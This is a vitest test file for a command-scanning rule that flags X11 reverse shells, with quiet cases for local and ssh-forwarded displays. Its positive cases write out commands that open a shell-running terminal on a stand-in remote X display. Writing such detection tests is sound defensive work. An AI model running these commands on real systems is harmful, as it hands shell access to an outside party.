// A terminal opened on another machine's X server, the X11 form of a reverse shell (found missing by probing,
// 2026-12-06). Spellings written after the rule.
import { describe, expect, it } from 'vitest';
import { rulesOfCommand } from './replay.js';

describe('a terminal on a remote X display', () => {
  it.each([
    ['urxvt with a display and a screen number', 'urxvt -display 198.51.100.23:0.0 -e sh &'],
    ['an exported DISPLAY before the terminal', 'export DISPLAY=x.example.org:1; nohup xterm &'],
    ['gnome-terminal with --display=', 'gnome-terminal --display=198.51.100.23:2'],
  ])('%s', (_name, command) => {
    expect(rulesOfCommand(command)).toContain('reverse-shell-x11');
  });

  it.each([
    ['the local display', 'DISPLAY=:1 xterm -e vim notes.md'],
    ['a display forwarded by ssh', 'xterm -display localhost:11.0'],
    ['a terminal with no display given', 'xterm -geometry 120x40 -e top'],
  ])('quiet: %s', (_name, command) => {
    expect(rulesOfCommand(command)).not.toContain('reverse-shell-x11');
  });
});
